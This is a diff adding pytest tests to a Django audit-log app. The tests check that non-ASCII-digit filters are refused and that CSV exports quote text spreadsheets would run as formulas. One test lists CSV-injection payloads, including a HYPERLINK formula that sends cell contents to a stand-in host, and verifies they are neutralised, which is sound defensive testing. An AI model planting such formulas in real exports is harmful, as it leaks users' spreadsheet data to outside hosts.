@@ -95,3 +95,48 @@ def test_an_assets_history_shows_its_old_rows_under_todays_names(
     rejected = reviewer_client.get(reverse("review:audit_csv"), {"action": "rejected"})
     rows = list(csv.reader(io.StringIO(body(rejected).decode())))
     assert [(r[1], r[2], r[6]) for r in rows[1:]] == [(str(old_asset.pk), "rejected", "off_brand")]
+
+
+@pytest.mark.parametrize("field", ["serial", "page"])
+@pytest.mark.parametrize("value", ["١", "²", "0", "-3", "9" * 19, "1e3"])
+def test_a_filter_not_written_in_ascii_digits_is_refused_naming_it(
+    reviewer_client: Client, old_and_new_decisions: tuple[Asset, AuditEvent, AuditEvent], field: str, value: str
+) -> None:
+    response = reviewer_client.get(reverse("review:audit"), {field: value})
+    html = response.content.decode()
+    assert response.status_code == 400
+    assert f"Not understood: {field} " in html and repr(value)[1:-1][:18] in html
+    assert "No events match." in html  # not the whole log, as if it were filtered
+    csv_response = reviewer_client.get(reverse("review:audit_csv"), {field: value})
+    assert csv_response.status_code == 400 and f"{field} " in csv_response.content.decode()
+
+
+def test_an_arabic_indic_serial_does_not_filter_as_that_serial(
+    reviewer_client: Client, old_and_new_decisions: tuple[Asset, AuditEvent, AuditEvent]
+) -> None:
+    old_asset, _, _ = old_and_new_decisions
+    foreign = "".join(chr(0x660 + int(d)) for d in str(old_asset.pk))
+    html = reviewer_client.get(reverse("review:audit"), {"serial": foreign}).content.decode()
+    assert f"#{old_asset.pk}" not in html
+    assert reviewer_client.get(reverse("review:audit"), {"serial": str(old_asset.pk)}).status_code == 200
+
+
+@pytest.mark.parametrize(
+    "typed", ['=HYPERLINK("http://x.example/?"&A1,"ok")', "+1+2", "-2+3", "@SUM(A1:A2)", "\t=1", "\r=1"]
+)
+def test_text_a_spreadsheet_would_run_as_a_formula_is_exported_quoted(reviewer_client: Client, typed: str) -> None:
+    asset = AssetFactory.create()
+    actor = make_user(username="@mallory")
+    AuditEvent.objects.create(asset=asset, actor=actor, action="rejected", detail={"reason": typed, "comment": typed})
+    rows = list(csv.reader(io.StringIO(body(reviewer_client.get(reverse("review:audit_csv"))).decode())))
+    (row,) = [r for r in rows[1:] if r[1] == str(asset.pk)]
+    assert row[3] == "'@mallory"
+    assert row[6] == row[7] == f"'{typed}"
+
+
+def test_plain_text_and_numbers_are_exported_as_they_are(reviewer_client: Client) -> None:
+    asset = AssetFactory.create()
+    AuditEvent.objects.create(asset=asset, action="commented", detail={"comment": "too dark; 3-4 stops"})
+    rows = list(csv.reader(io.StringIO(body(reviewer_client.get(reverse("review:audit_csv"))).decode())))
+    (row,) = [r for r in rows[1:] if r[1] == str(asset.pk)]
+    assert row[3] == "pipeline" and row[7] == "too dark; 3-4 stops"
